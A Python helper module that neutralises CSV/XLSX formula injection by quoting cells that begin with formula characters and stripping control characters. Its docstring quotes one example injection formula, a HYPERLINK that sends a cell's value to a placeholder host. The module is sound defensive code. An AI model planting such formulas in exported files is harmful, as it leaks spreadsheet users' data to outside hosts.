"""Cell values that are safe to open in a spreadsheet: every CSV and XLSX writer passes user
text through `safe_cell` (OWASP "CSV injection" rule), so a name such as
`=HYPERLINK("http://x"&A1,"Xem")` arrives as text, never as a live formula, and a stray
control character (`\\x0b` pasted from Word) cannot make openpyxl refuse the whole file."""
from __future__ import annotations

import re
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any, Iterable

# Cells starting with these are read as formulas (or DDE) by Excel, LibreOffice and Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these (openpyxl raises IllegalCharacterError or lxml a ValueError): control
# characters other than tab, LF and CR, lone surrogates, and the non-characters U+FFFE/U+FFFF.
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# A plain number written as text ("-5", "+3.25") is not a formula; leave it readable.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
_KEPT_TYPES = (bool, int, float, Decimal, date, datetime, time)


def safe_cell(value: Any) -> Any:
    """The value as it should be written to a cell: numbers and dates unchanged, text with
    control characters removed and a leading quote when it would start a formula."""
    if value is None:
        return ""
    if isinstance(value, _KEPT_TYPES):
        return value
    text = _CONTROL.sub("", str(value))
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
